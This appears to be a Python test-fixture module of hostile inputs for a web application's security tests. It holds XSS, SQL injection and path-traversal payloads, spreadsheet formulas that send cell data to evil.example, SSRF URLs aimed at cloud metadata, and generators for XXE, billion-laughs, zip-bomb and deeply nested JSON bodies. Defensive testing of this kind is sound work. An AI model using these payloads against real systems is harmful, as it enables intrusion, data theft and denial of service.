"""Hostile inputs: text that must be stored verbatim and shown inert, and bodies that must be refused.

Every XSS payload, if it ever ran, would set ``window.__gw_pwned``, open a dialog, or create an element with
the id ``gw-pwned``; the browser test looks for all three.
"""

from __future__ import annotations

import io
import zipfile

XSS = [
    "<script>window.__gw_pwned=1;alert(1)</script>",
    "</script><script>window.__gw_pwned=1;alert(2)</script>",
    "</textarea><script>alert(3)</script>",
    "</title><script>alert(4)</script>",
    '"><img id="gw-pwned" src=x onerror="window.__gw_pwned=1;alert(5)">',
    "'><img id='gw-pwned' src=x onerror='alert(6)'>",
    '" onmouseover="alert(7)" autofocus onfocus="alert(7)" x="',
    "' onfocus='alert(8)' autofocus='",
    '<svg id="gw-pwned" onload="alert(9)"></svg>',
    "<svg><script>alert(10)</script></svg>",
    '<iframe id="gw-pwned" src="javascript:alert(11)"></iframe>',
    "javascript:alert(12)",
    "JaVaScRiPt:window.__gw_pwned=1",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxMyk8L3NjcmlwdD4=",
    '<a id="gw-pwned" href="javascript:alert(14)">click</a>',
    '<details id="gw-pwned" open ontoggle="alert(15)">',
    '<body onload="alert(16)">',
    "<math><mtext></p><script>alert(17)</script>",
    "{{ 7*7 }} {% debug %} ${7*7} #{7*7}",
    "<!--<script>alert(19)</script>-->",
    '<style>@import "javascript:alert(20)";</style>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(21)">',
    "\u2028\u2029<script>alert(22)</script>",
    '<input id="gw-pwned" autofocus onfocus="alert(23)">',
    "<scr<script>ipt>alert(24)</scr</script>ipt>",
]

SQL = [
    "'; DROP TABLE events_event; --",
    "' OR '1'='1",
    '" OR ""="',
    "1; SELECT pg_sleep(5); --",
    "' UNION SELECT username, password FROM accounts_user --",
    "admin'--",
    "%' AND 1=0 UNION SELECT sqlite_version() --",
    "\\'; ATTACH DATABASE '/tmp/x.db' AS x; --",
]

CSV_FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
]

TRAVERSAL_NAMES = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/shadow",
    "....//....//etc/hosts",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "report\x00.txt",
    "con.txt",
    ".htaccess",
]

SSRF_URLS = [
    "http://127.0.0.1:8000/admin/",
    "http://169.254.169.254/latest/meta-data/",
    "http://[::1]/",
    "http://0x7f000001/",
    "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "http://localhost@evil.example/",
    "http://metadata.google.internal/computeMetadata/v1/",
]

ODD_TEXT = [
    "\u202egnp.exe",  # right-to-left override
    "Zalgo t\u0334\u0336\u0337ext",
    "emoji 🧨 and CJK 爆弾 and Arabic قنبلة",
    "a" * 20000,
    "line\r\nbreaks\rand\ttabs",
]

# Text that is valid input and must be stored as sent and shown as text.
TEXT_PAYLOADS = XSS + SQL + CSV_FORMULAS + ODD_TEXT


def billion_laughs() -> bytes:
    lines = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    ]
    return (
        '<?xml version="1.0"?><!DOCTYPE data ['
        + "".join(lines)
        + ']><data id="incident_report">&lol9;</data>'
    ).encode()


def external_entity() -> bytes:
    return (
        b'<?xml version="1.0"?><!DOCTYPE data [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b'<data id="incident_report"><meta><instanceID>uuid:xxe</instanceID></meta>&xxe;</data>'
    )


def zip_bomb() -> bytes:
    """An .xlsx-named zip whose one member inflates to 200 MB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (200 * 1024 * 1024))
    return buffer.getvalue()


def nested_json(depth: int = 50_000) -> bytes:
    return b'{"mission": ' + b"[" * depth + b"]" * depth + b"}"


INVALID_UTF8 = b'{"mission": "x", "text": "\xff\xfe\xc3\x28 broken"}'

STRUCTURAL = [
    "billion laughs (OpenRosa)",
    "external entity (OpenRosa)",
    "zip bomb (form upload)",
    "oversized body (JSON)",
    "invalid UTF-8 (JSON)",
    "deeply nested JSON",
    "truncated JSON",
    "JSON of the wrong type",
]

PAYLOAD_COUNT = len(TEXT_PAYLOADS) + len(TRAVERSAL_NAMES) + len(SSRF_URLS) + len(STRUCTURAL)
